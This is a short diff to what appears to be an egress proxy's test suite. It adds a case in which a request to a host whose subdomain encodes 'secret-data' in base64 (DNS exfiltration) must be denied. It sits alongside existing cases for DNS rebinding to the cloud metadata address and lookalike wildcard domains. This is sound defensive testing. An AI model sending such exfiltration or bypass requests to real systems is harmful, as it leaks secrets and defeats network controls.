@@ -602,6 +602,7 @@ cases = {
   'rebind-metadata': lambda: get('http://rebind-meta.test/bypass-17'),
   'rebind-mapped': lambda: get('http://rebind-mapped.test/bypass-18'),
   'not-allowed': lambda: get('http://other.test/bypass-19'),
+  'dns-exfil-name': lambda: get('http://c2VjcmV0LWRhdGE.exfil.test/bypass-27'),
   'wildcard-apex': lambda: get('http://wild.test/bypass-20'),
   'wildcard-lookalike': lambda: get('http://evilwild.test/bypass-21'),
   'deny-wins': lambda: get('http://deny.wild.test/bypass-22'),
@@ -725,6 +726,11 @@ fn bypass_attempts_are_denied() {
             ("rebind-metadata", "403", "(the cloud metadata address)"),
             ("rebind-mapped", "403", "(IPv4-mapped)"),
             ("not-allowed", "403", "other.test:80 is not allowed"),
+            (
+                "dns-exfil-name",
+                "403",
+                "c2vjcmv0lwrhdge.exfil.test:80 is not allowed",
+            ),
             ("wildcard-apex", "403", "wild.test:80 is not allowed"),
             (
                 "wildcard-lookalike",
